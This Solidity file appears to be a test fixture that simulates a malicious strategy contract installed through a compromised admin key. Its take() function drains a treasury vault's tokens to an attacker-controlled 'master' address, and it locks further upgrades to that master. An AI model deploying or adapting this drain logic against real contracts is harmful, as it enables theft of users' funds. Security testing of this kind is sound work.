// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {TreasuryVault} from "../TreasuryVault.sol";
import {Thief} from "./Thief.sol";

/// @title What a stolen admin key puts behind the strategy's proxy.
contract HostileStrategy is Thief, UUPSUpgradeable {
    IERC20 private immutable _token;
    TreasuryVault private immutable _vault;

    /// @param token_ What the vault keeps.
    /// @param vault_ The vault to draw from.
    constructor(IERC20 token_, TreasuryVault vault_) {
        _token = token_;
        _vault = vault_;
    }

    /// @notice Draws up to `amount` from the vault and sends all that is held to the master.
    /// @dev Goes on with what is at hand when the vault is sealed. Anyone may call it: the gain goes to the master.
    function take(uint256 amount) external {
        uint256 drawn = Math.min(amount, _token.balanceOf(address(_vault)));
        try _vault.draw(drawn) {} catch {}
        _token.transfer(_master, _token.balanceOf(address(this)));
    }

    /// @inheritdoc UUPSUpgradeable
    function _authorizeUpgrade(address) internal override onlyMaster {}
}
